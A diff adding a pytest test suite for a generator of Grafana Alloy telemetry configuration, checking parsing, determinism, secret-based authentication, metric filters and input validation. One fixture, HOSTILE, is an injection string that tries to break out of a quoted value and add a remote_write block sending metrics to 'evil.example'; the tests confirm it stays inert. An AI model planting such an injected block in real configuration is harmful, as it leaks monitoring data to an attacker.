@@ -1,0 +1,193 @@
+"""The generated Alloy configuration: parseable, deterministic, injection-proof, and correct."""
+
+from __future__ import annotations
+
+import dataclasses
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from fleet.alloy_syntax import Attribute, Block, Expr, Index, Literal, Object, components, parse
+from fleet.alloy_syntax import reference_chain as chain_of
+from fleet.verify import check_workload_alloy
+from workloads.alloy_config import AlloyPipeline, quote, render_alloy_config
+
+CENTRAL = "https://mimir.ctrl.example.com/api/v1/push"
+HOSTILE = 'evil"}\nprometheus.remote_write "leak" {\n  endpoint { url = "https://evil.example/" }\n}\\'
+
+
+def pipeline(**changes: object) -> AlloyPipeline:
+    base = AlloyPipeline(
+        workload="shop-eu",
+        local_metrics_url="http://mimir-gateway.mimir.svc.cluster.local/api/v1/push",
+        central_metrics_url=CENTRAL,
+        central_secret_namespace="alloy",
+    )
+    return dataclasses.replace(base, **changes)  # type: ignore[arg-type]
+
+
+def blocks_by_id(text: str) -> dict[str, Block]:
+    return dict(components(parse(text)))
+
+
+PIPELINES = {
+    "defaults": pipeline(),
+    "filters and namespaces": pipeline(
+        namespaces=("payments", "checkout"), central_metric_filters=("up", "kube_.*", "up")
+    ),
+    "no journal": pipeline(system_logs=False, workload="a"),
+    "hostile strings": pipeline(
+        namespaces=(HOSTILE, "tab\tand\x00nul"),
+        central_metric_filters=(r'node_\w+"}', "}\n{"),
+        central_secret_name=HOSTILE,
+        central_secret_key='key"]',
+        central_secret_namespace="ns\\",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PIPELINES)
+def test_every_generated_config_parses_and_passes_verification(name: str) -> None:
+    config = PIPELINES[name]
+    text = render_alloy_config(config)
+    assert check_workload_alloy(text, config.workload, CENTRAL) == []
+
+
+@pytest.mark.parametrize("name", PIPELINES)
+def test_output_is_deterministic(name: str) -> None:
+    config = PIPELINES[name]
+    again = dataclasses.replace(config)
+    assert render_alloy_config(config) == render_alloy_config(again)
+
+
+def test_hostile_strings_stay_inside_their_literals() -> None:
+    config = PIPELINES["hostile strings"]
+    found = blocks_by_id(render_alloy_config(config))
+    # The same components as a harmless config: nothing was injected.
+    assert found.keys() == blocks_by_id(render_alloy_config(pipeline(namespaces=("x",)))).keys()
+    (namespaces,) = found["discovery.kubernetes.pods"].blocks("namespaces")
+    assert namespaces.attribute("names") == parse_list(config.namespaces)
+    secret = found["remote.kubernetes.secret.central_auth"]
+    assert secret.attribute("name") == Literal(HOSTILE)
+    assert secret.attribute("namespace") == Literal("ns\\")
+    password = central_auth(found).attribute("password")
+    assert isinstance(password, Index)
+    assert password.index == Literal('key"]')
+
+
+def parse_list(values: tuple[str, ...]) -> Expr:
+    (item,) = parse(f"a = [{', '.join(quote(v) for v in values)}]").body
+    assert isinstance(item, Attribute)
+    return item.value
+
+
+def central_auth(found: dict[str, Block]) -> Block:
+    (endpoint,) = found["prometheus.remote_write.central"].blocks("endpoint")
+    (auth,) = endpoint.blocks("basic_auth")
+    return auth
+
+
+def test_central_endpoint_authenticates_with_a_secret_not_a_literal() -> None:
+    found = blocks_by_id(render_alloy_config(pipeline(central_secret_key="pw")))
+    auth = central_auth(found)
+    assert auth.attribute("username") == Literal("shop-eu")
+    password = auth.attribute("password")
+    assert isinstance(password, Index)
+    assert chain_of(password.value) == ("remote", "kubernetes", "secret", "central_auth", "data")
+    assert password.index == Literal("pw")
+    secret = found["remote.kubernetes.secret.central_auth"]
+    assert secret.attribute("namespace") == Literal("alloy")
+    assert secret.attribute("name") == Literal("mimir-auth")
+    (local_endpoint,) = found["prometheus.remote_write.local"].blocks("endpoint")
+    assert local_endpoint.blocks("basic_auth") == []
+
+
+def test_metric_filters_apply_to_the_central_endpoint_only() -> None:
+    found = blocks_by_id(render_alloy_config(pipeline(central_metric_filters=("up", "kube_.*", "up"))))
+    (central,) = found["prometheus.remote_write.central"].blocks("endpoint")
+    (rule,) = central.blocks("write_relabel_config")
+    assert rule.attribute("action") == Literal("keep")
+    assert rule.attribute("regex") == Literal("(?:up)|(?:kube_.*)")
+    assert rule.attribute("source_labels") == parse_list(("__name__",))
+    (local,) = found["prometheus.remote_write.local"].blocks("endpoint")
+    assert local.blocks("write_relabel_config") == []
+
+
+def test_no_filter_sends_every_metric_to_the_control_room() -> None:
+    found = blocks_by_id(render_alloy_config(pipeline()))
+    (central,) = found["prometheus.remote_write.central"].blocks("endpoint")
+    assert central.blocks("write_relabel_config") == []
+
+
+def test_namespaces_limit_pod_discovery_and_default_to_all() -> None:
+    everything = blocks_by_id(render_alloy_config(pipeline()))
+    assert everything["discovery.kubernetes.pods"].blocks("namespaces") == []
+    limited = blocks_by_id(render_alloy_config(pipeline(namespaces=("a", "b"))))
+    (namespaces,) = limited["discovery.kubernetes.pods"].blocks("namespaces")
+    assert namespaces.attribute("names") == parse_list(("a", "b"))
+
+
+def test_journal_logs_are_optional() -> None:
+    on = blocks_by_id(render_alloy_config(pipeline(system_logs=True)))
+    off = blocks_by_id(render_alloy_config(pipeline(system_logs=False)))
+    assert "loki.source.journal.system" in on
+    assert "loki.source.journal.system" not in off
+    assert "loki.source.kubernetes.pods" in off
+
+
+def test_every_writer_labels_data_with_the_workload() -> None:
+    found = blocks_by_id(render_alloy_config(pipeline()))
+    writers = [cid for cid in found if cid.startswith(("prometheus.remote_write", "loki.write"))]
+    assert sorted(writers) == [
+        "loki.write.local",
+        "prometheus.remote_write.central",
+        "prometheus.remote_write.local",
+    ]
+    for writer in writers:
+        labels = found[writer].attribute("external_labels")
+        assert isinstance(labels, Object)
+        assert labels.get("workload") == Literal("shop-eu")
+
+
+def test_scrapes_cover_pods_kubelet_cadvisor_and_kube_state_metrics() -> None:
+    found = blocks_by_id(render_alloy_config(pipeline()))
+    scrapes = sorted(cid for cid in found if cid.startswith("prometheus.scrape."))
+    assert scrapes == [
+        "prometheus.scrape.cadvisor",
+        "prometheus.scrape.kube_state_metrics",
+        "prometheus.scrape.kubelet",
+        "prometheus.scrape.pods",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("changes", "fragment"),
+    [
+        ({"workload": "Shop"}, "DNS-1123"),
+        ({"workload": "a" * 64}, "DNS-1123"),
+        ({"workload": "shop\n"}, "DNS-1123"),
+        ({"central_metrics_url": "http://mimir.ctrl.example.com/api/v1/push"}, "https"),
+        ({"local_metrics_url": "mimir-gateway/api/v1/push"}, "not an http(s) URL"),
+        ({"local_logs_url": "ftp://loki/push"}, "not an http(s) URL"),
+        ({"central_metric_filters": ("(unclosed",)}, "not a regex"),
+        ({"central_secret_key": ""}, "must not be empty"),
+        ({"namespaces": ("",)}, "empty name"),
+    ],
+)
+def test_invalid_pipelines_are_rejected(changes: dict[str, object], fragment: str) -> None:
+    with pytest.raises(ValueError) as caught:
+        pipeline(**changes)
+    assert fragment in str(caught.value)
+
+
+@given(st.text())
+def test_quote_round_trips_any_text_through_the_parser(value: str) -> None:
+    if any(0xD800 <= ord(char) <= 0xDFFF for char in value):
+        with pytest.raises(ValueError, match="surrogate"):
+            quote(value)
+        return
+    (item,) = parse(f"a = {quote(value)}\n").body
+    assert isinstance(item, Attribute)
+    assert item.value == Literal(value)
+    assert "\n" not in quote(value)
